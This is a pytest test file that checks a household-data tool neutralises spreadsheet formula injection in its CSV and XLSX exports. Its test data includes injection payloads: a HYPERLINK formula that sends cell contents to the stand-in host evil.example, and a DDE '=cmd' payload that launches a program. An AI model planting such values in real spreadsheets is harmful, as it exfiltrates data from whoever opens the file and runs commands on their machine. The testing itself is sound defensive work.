"""Hostile values through every spreadsheet and CSV writer: no formula, no lost row, no lost data.

Text that a spreadsheet would run (``=``, ``+``, ``-``, ``@``, or a tab or line break before one)
is neutralised in CSV with an apostrophe, stored as inert string cells in XLSX, and read back by
planner as it was; text over Excel's 32,767 characters is refused instead of cut short.
"""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import pytest
from click.testing import CliRunner
from openpyxl import load_workbook

from planner.cli import cli
from planner.io import read_households, write_households
from planner.io.formulas import FORMULA_STARTS
from planner.io.tabular import CsvTables, XlsxTables
from planner.model import Household

ROOT = Path(__file__).resolve().parent.parent
DISTRICT = ROOT / "examples" / "district"

HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"点我")', "+1+1", "-2+3", "@SUM(A1:A9)",
           "'=already marked", "''+twice marked", "=cmd|' /C calc'!A0"]


def _run(*args: object):
    return CliRunner().invoke(cli, [str(a) for a in args])


def _hostile_households() -> list[Household]:
    """Example households whose id, village, town, names, helper and visitor are hostile."""
    lines = (DISTRICT / "households.jsonl").read_text(encoding="utf-8").splitlines()
    households = []
    for number, text in enumerate(HOSTILE):
        data = json.loads(lines[number])
        data["id"] = f"{text}#{number}"
        data["region"]["village"] = text
        data["region"]["town"] = text
        data["members"][0]["name"] = text
        if data.get("helper"):
            data["helper"]["name"] = text
            data["helper"]["organisation"] = text
        for visit in data.get("visits", []):
            visit["visitor"] = text
        households.append(Household.model_validate(data))
    return households


def _formula_like(cell: str) -> bool:
    """A CSV cell a spreadsheet would evaluate: starts like a formula and is not a number."""
    if not cell or cell[0] not in FORMULA_STARTS:
        return False
    try:
        float(cell)
    except ValueError:
        return True
    return False


def _csv_cells(path: Path) -> list[str]:
    text = path.read_text(encoding="utf-8-sig")
    return [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]


def _xlsx_cells(path: Path) -> list[object]:
    """Every cell of every sheet; a formula cell fails the test at once."""
    book = load_workbook(path)  # not read-only: data_type tells formulas apart
    cells = []
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                cells.append(cell.value)
    return cells


@pytest.mark.parametrize("name", ["households.csv", "households.csv.gz", "households.xlsx",
                                  "households.parquet", "households.jsonl", "households.json"])
def test_hostile_text_reads_back_exactly_from_every_format(tmp_path: Path, name: str) -> None:
    households = _hostile_households()
    path = tmp_path / name
    fmt = "parquet-flat" if name.endswith(".parquet") else None
    assert write_households(households, path, fmt=fmt) == len(HOSTILE)
    errors: list = []
    assert list(read_households(path, errors=errors, mask=False)) == households
    assert errors == []


def test_csv_data_files_neutralise_every_formula_and_keep_negative_numbers(tmp_path) -> None:
    path = tmp_path / "households.csv"
    write_households(_hostile_households(), path)
    files = [path, *sorted(tmp_path.glob("households.*.csv"))]
    assert len(files) > 1  # part files too
    cells = [cell for file in files for cell in _csv_cells(file)]
    assert [c for c in cells if _formula_like(c)] == []
    for text in HOSTILE:
        assert "'" + text in cells
    tables = CsvTables(tmp_path / "numbers.csv", "t", ["number", "text", "tab"])
    tables.write("t", [], [-3.5, "-3.5", "\t=1+1"])
    tables.close()
    assert _csv_cells(tmp_path / "numbers.csv")[3:] == ["-3.5", "'-3.5", "'\t=1+1"]


def test_xlsx_keeps_text_as_inert_strings_and_numbers_as_numbers(tmp_path) -> None:
    path = tmp_path / "households.xlsx"
    write_households(_hostile_households(), path)
    cells = _xlsx_cells(path)
    for text in HOSTILE[:3]:
        assert text in cells  # a string cell, not a formula, and no apostrophe added
    assert "''=already marked" in cells  # one more apostrophe: it reads back as written
    tables = XlsxTables(tmp_path / "numbers.xlsx", "t", ["number", "text"])
    tables.write("t", [], [-3.5, "-3.5"])
    tables.close()
    sheet = load_workbook(tmp_path / "numbers.xlsx").active
    assert [(c.value, c.data_type) for c in sheet[2]] == [(-3.5, "n"), ("-3.5", "s")]


@pytest.mark.parametrize("target", ["out.csv", "out.xlsx"])
def test_convert_neutralises_and_round_trips_through_the_cli(tmp_path, target) -> None:
    source = tmp_path / "in.jsonl"
    write_households(_hostile_households(), source)
    result = _run("convert", source, tmp_path / target, "--show-personal")
    assert result.exit_code == 0, result.output
    if target.endswith(".csv"):
        assert [c for c in _csv_cells(tmp_path / target) if _formula_like(c)] == []
    else:
        _xlsx_cells(tmp_path / target)
    back = tmp_path / "back.jsonl"
    assert _run("convert", tmp_path / target, back, "--show-personal").exit_code == 0
    assert back.read_bytes() == source.read_bytes()


def test_check_csv_neutralises_subjects_and_messages(tmp_path) -> None:
    source = tmp_path / "households.jsonl"
    write_households(_hostile_households(), source)
    out = tmp_path / "findings.csv"
    result = _run("check", source, "--output-format", "csv", "--output", out, "--exit-zero",
                  "--show-personal")
    assert result.exit_code == 0, result.output
    rows = list(csv.DictReader(io.StringIO(out.read_text(encoding="utf-8-sig"), newline="")))
    assert rows
    assert [(k, v) for row in rows for k, v in row.items() if _formula_like(v)] == []
    assert {row["subject"] for row in rows} >= {f"'{t}#{n}" for n, t in enumerate(HOSTILE[:4])}


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_plan_outputs_hold_no_formula(tmp_path, fmt) -> None:
    source = tmp_path / "households.jsonl"
    write_households(_hostile_households(), source)
    out = tmp_path / f"plan.{fmt}"
    result = _run("plan", source, "--output-format", fmt, "--output", out, "--show-names",
                  "--date", "2020-06-30")
    assert result.exit_code == 0, result.output
    if fmt == "csv":
        cells = _csv_cells(out)
        assert [c for c in cells if _formula_like(c)] == []
        assert "'" + HOSTILE[0] in cells  # the village
    else:
        cells = _xlsx_cells(out)
        assert HOSTILE[0] in cells and f"{HOSTILE[0]}#0" in cells  # village, household


def test_text_over_excels_cell_limit_is_refused_and_nothing_is_written(tmp_path) -> None:
    household = _hostile_households()[0].model_copy(update={"id": "long"})
    household.members[0].name = "长" * 40_000
    source = tmp_path / "in.jsonl"
    write_households([household, *_hostile_households()[1:]], source)
    target = tmp_path / "out.xlsx"
    target.write_bytes(b"previous file")
    result = _run("convert", source, target, "--show-personal")
    assert result.exit_code == 2
    assert "32,767" in result.output and "40,000" in result.output
    assert "单元格" in result.output and "cell" not in result.output  # the run's language
    assert target.read_bytes() == b"previous file"
    assert [p.name for p in tmp_path.iterdir() if p.name.startswith(".")] == []
